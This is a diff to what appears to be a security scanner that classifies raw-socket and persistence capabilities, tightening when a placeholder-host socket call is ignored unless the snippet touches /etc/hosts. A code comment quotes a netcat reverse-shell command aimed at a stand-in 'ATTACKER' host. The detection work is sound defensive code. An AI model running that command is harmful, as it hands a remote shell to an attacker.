@@ -305,8 +305,12 @@ def _judge(capability: Capability, same_file: list[Capability]) -> Iterator[Find
             chain = (*chain, *fetches[0].chain)
             runs = True
         yield _finding(PERSISTENCE, _placed(Severity.ERROR if runs else Severity.WARNING, example), chain)
-    elif kind is Kind.RAW_SOCKET and vocabulary.placeholder_host(detail.split(" ", 1)[0]):
-        return  # `nc -e /bin/sh ATTACKER 4444`: a shape shown to the reader, aimed at no host
+    elif (
+        kind is Kind.RAW_SOCKET
+        and vocabulary.placeholder_host(detail.split(" ", 1)[0])
+        and "/etc/hosts" not in capability.snippet.text
+    ):
+        return  # `nc -e /bin/sh ATTACKER 4444`: a shape shown to the reader, aimed at no host it maps
     elif kind is Kind.RAW_SOCKET:
         shell = "(remote shell" in detail
         yield _finding(REMOTE_SHELL, _placed(Severity.ERROR if shell else Severity.WARNING, example), chain)
